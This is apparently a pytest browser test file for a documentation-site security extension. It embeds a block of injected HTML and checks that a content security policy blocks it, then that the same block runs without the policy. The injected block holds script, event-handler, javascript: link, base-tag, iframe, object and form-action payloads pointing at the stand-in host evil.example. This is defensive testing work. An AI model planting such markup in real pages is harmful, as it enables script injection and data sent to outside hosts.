"""What was smuggled into a page does not run, load or send: with the policy, for without it all of it does."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from throwaway import Build, Project
from watched import watched

if TYPE_CHECKING:
    from pathlib import Path

    from playwright.sync_api import Browser

pytestmark = pytest.mark.browser

SMUGGLED = """\
<base href="https://evil.example/">
<script>told("ran inline")</script>
<script src="https://evil.example/x.js"></script>
<img src="data:," alt="" onerror="told('ran onerror')">
<img src="https://evil.example/x.png" alt="">
<link rel="stylesheet" href="https://evil.example/x.css">
<iframe src="https://evil.example/x.html" title="x"></iframe>
<object data="https://evil.example/x"></object>
<form action="https://evil.example/"><input name="q"><button id="send">x</button></form>
<a id="go" href="javascript:told('ran address')">x</a>
"""
REFUSED = {
    "base-uri",
    "script-src-elem",
    "script-src-attr",
    "img-src",
    "style-src-elem",
    "frame-src",
    "object-src",
    "form-action",
}
REFUSAL = """id => new Promise(done => {
    addEventListener("securitypolicyviolation", done, { once: true });
    document.getElementById(id).click();
})"""


def built_with(folder: Path, *extensions: str) -> Build:
    source = folder / "source"
    source.mkdir()
    project = Project(source, {"extensions": [*extensions], "html_theme": "furo", "project": "A Work"})
    raw = "".join(f"   {line}\n" for line in SMUGGLED.splitlines())
    project.write({"index.rst": "A\n=\n\nWords.\n\n.. raw:: html\n\n" + raw})
    return project.build()


@pytest.mark.parametrize("folder", [False, True], ids=["from a server", "from a folder"])
def test_it_does_not_work(browser: Browser, tmp_path: Path, folder: bool) -> None:  # noqa: FBT001  # a parameter
    with watched(browser, built_with(tmp_path, "chapbook.security"), folder=folder) as site:
        site.visit("index.html")
        for link in ("go", "send"):
            site.page.evaluate(REFUSAL, link)
        site.settle()
        assert [line for line in site.trouble if line.startswith(("ran", "https:", "dialog"))] == []
        assert {line.split()[0] for line in site.trouble if " refused " in line} == REFUSED
        assert site.left_for == []
        assert site.page.url == f"{site.base}index.html"


def test_without_the_policy_it_does(browser: Browser, tmp_path: Path) -> None:
    with watched(browser, built_with(tmp_path)) as site:
        site.visit("index.html")
        site.page.locator("#go").dispatch_event("click")
        site.settle()
        asked = {f"https://evil.example/{name}" for name in ("x.js", "x.css", "x.png")}
        assert {"ran inline", "ran onerror", "ran address"} | asked <= set(site.trouble)
        assert set(site.left_for) == {"https://evil.example/x.html", "https://evil.example/x"}
        site.page.locator("#send").dispatch_event("click")
        site.page.wait_for_url("https://evil.example/?q=")
